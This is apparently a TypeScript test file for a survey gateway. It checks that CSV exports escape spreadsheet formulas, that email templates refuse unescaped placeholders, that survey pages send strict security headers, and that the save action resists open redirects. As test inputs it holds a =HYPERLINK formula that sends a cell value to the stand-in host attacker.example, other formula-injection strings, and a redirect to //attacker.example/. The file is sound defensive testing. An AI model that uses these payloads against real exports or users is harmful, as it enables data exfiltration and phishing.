import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { ApiKeyService } from '../apps/gateway/src/auth/api-key.service';
import { opsApi } from './support/ops-api';
import { Pipeline, testConfig } from './support/pipeline';

const PUBLIC = 'https://surveys.example.test';
const pathOf = (url: string) => url.slice(PUBLIC.length);
const BOM = '\uFEFF';
const QUESTIONS = [
  { id: 'nps', type: 'nps', required: true, label: { en: 'How likely are you to recommend us?' } },
  { id: 'comment', type: 'free_text', label: { en: 'Anything else?' } },
];

/**
 * Issue #11 over the gateway's HTTP surface: what an attacker or a careless integration sends gets a clear 4xx
 * that names the field, and what we hand out (CSV, emails, pages) can't be turned against its reader.
 */
describe('hostile input at the HTTP edge', () => {
  let pipeline: Pipeline;
  let key: string;

  beforeAll(async () => {
    const config = testConfig({ PUBLIC_BASE_URL: PUBLIC, SENDGRID_WEBHOOK_PUBLIC_KEY: undefined });
    pipeline = await new Pipeline(config).start(['gateway']);
    key = (
      await pipeline.apps
        .get('gateway')!
        .get(ApiKeyService)
        .create('hostile', ['distribution:edit', 'distribution:view'])
    ).key;
  });

  afterAll(async () => {
    await pipeline?.close();
  });

  const api = opsApi(
    () => pipeline.gateway,
    () => key,
  );

  async function distribution() {
    const survey = await api
      .post('/ops/surveys', { name: 'CSAT', languages: ['en'], questions: QUESTIONS })
      .expect(201);
    const d = await api
      .post('/ops/distributions', { surveyId: survey.body.id, name: 'Resolved', tags: { program: 'csat' } })
      .expect(201);
    return d.body.id as string;
  }
  const link = (distributionId: string, contact: Record<string, unknown> = {}) =>
    api
      .post('/ops/links', {
        distributionId,
        contact: { id: `c-${randomUUID()}`, name: 'Ada Lovelace', email: 'ada@example.com', ...contact },
      })
      .expect(201)
      .then((r) => r.body as { linkId: string; url: string });

  describe('CSV exports', () => {
    it('neutralises formulas in answers and names, starts with a BOM and downloads as a file', async () => {
      const d = await distribution();
      const formula = '=HYPERLINK("https://attacker.example/?x="&A2,"Click")';
      for (const comment of [formula, '\t=1+1', '\r@SUM(A1)', '+1-2', 'Crème brûlée, “quoted”']) {
        const l = await link(d);
        await request(pipeline.gateway)
          .post(pathOf(l.url))
          .type('form')
          .send({ 'q.nps': '9', 'q.comment': comment, action: 'submit' })
          .expect(200);
      }
      const res = await api.get(`/ops/distributions/${d}/responses.csv`).expect(200);
      expect(res.headers['content-disposition']).toBe(`attachment; filename="responses-${d}.csv"`);
      expect(res.text.startsWith(BOM)).toBe(true);
      const cells = res.text
        .slice(BOM.length)
        .split('\r\n')
        .slice(1)
        .filter(Boolean)
        .map((line) => line.split(',')[8]);
      // Every cell a spreadsheet would evaluate starts with an apostrophe; text stays text.
      expect(res.text).toContain(`"'=HYPERLINK(""https://attacker.example/?x=""&A2,""Click"")"`);
      expect(res.text).toContain(`'\t=1+1`);
      expect(res.text).toContain(`'\r@SUM(A1)`);
      expect(cells).toContain(`'+1-2`);
      expect(res.text).toContain('Crème brûlée');
      expect(res.text).not.toMatch(/(^|,|\r\n)"?[=+@\t]/);
    });

    it('neutralises formulas in the bulk-links CSV (names come from a CRM)', async () => {
      const d = await distribution();
      const tag = randomUUID().slice(0, 8);
      await api
        .post('/ops/contacts', {
          contacts: [{ id: `x-${tag}`, firstName: '=1+2', lastName: '@SUM(A1)', attributes: { batch: tag } }],
        })
        .expect(201);
      const seg = await api
        .post('/ops/segments', { name: 's', filter: { attribute: 'batch', op: 'equals', value: tag } })
        .expect(201);
      const res = await api
        .post(`/ops/distributions/${d}/bulk-links`, { segmentId: seg.body.id })
        .expect(200);
      expect(res.text.startsWith(BOM)).toBe(true);
      const [header, row] = res.text.slice(BOM.length).split('\r\n');
      expect(header).toBe('contact id,custom id,first name,last name,email,personal link');
      expect(row.split(',').slice(2, 4)).toEqual([`'=1+2`, `'@SUM(A1)`]);
    });

    it('answers 400 naming the field for a status that does not exist', async () => {
      const d = await distribution();
      const res = await api.get(`/ops/distributions/${d}/responses.csv?status=Bogus`).expect(400);
      expect(res.body.error.details.fields.map((f: { field: string }) => f.field)).toEqual(['status']);
    });
  });

  describe('email templates', () => {
    it('refuses a template that inserts a CRM value unescaped, naming the placeholder', async () => {
      const d = await distribution();
      for (const html of ['<p>{{{customer_name}}}</p>', '<p>{{& customer_name}}</p>']) {
        const res = await api
          .put(`/ops/distributions/${d}/templates`, {
            channel: 'email',
            kind: 'invitation',
            language: 'en',
            subject: 'Hi',
            html,
            text: 'Hi {{customer_name}}',
          })
          .expect(400);
        expect(res.body.error.details.fields).toEqual([
          { field: 'html', message: expect.stringContaining('{{{customer_name}}}') },
        ]);
      }
      expect((await api.get(`/ops/distributions/${d}/templates`).expect(200)).body).toEqual([]);
    });
  });

  describe('survey pages', () => {
    it('may not be framed, leak the token in a Referer, run foreign script or be sniffed', async () => {
      const l = await link(await distribution());
      for (const res of [
        await request(pipeline.gateway).get(pathOf(l.url)).expect(200),
        await request(pipeline.gateway).get('/s/not-a-token').expect(404),
      ]) {
        expect(res.headers['referrer-policy']).toBe('no-referrer');
        expect(res.headers['x-frame-options']).toBe('DENY');
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        const csp = res.headers['content-security-policy'];
        expect(csp).toContain("default-src 'none'");
        expect(csp).toContain("frame-ancestors 'none'");
        expect(csp).toContain("form-action 'self'");
        expect(csp).not.toMatch(/script-src/);
      }
    });

    it('redirects after saving to the page it built, not to whatever path the request carried', async () => {
      const l = await link(await distribution());
      const token = pathOf(l.url).slice('/s/'.length);
      const res = await request(pipeline.gateway)
        .post(`${pathOf(l.url)}?next=//attacker.example/`)
        .type('form')
        .send({ 'q.nps': '5', action: 'save' })
        .expect(303);
      expect(res.headers.location).toBe(token);
      expect(new URL(res.headers.location, `${PUBLIC}/s/${token}?x=1`).pathname).toBe(`/s/${token}`);
    });
  });
});
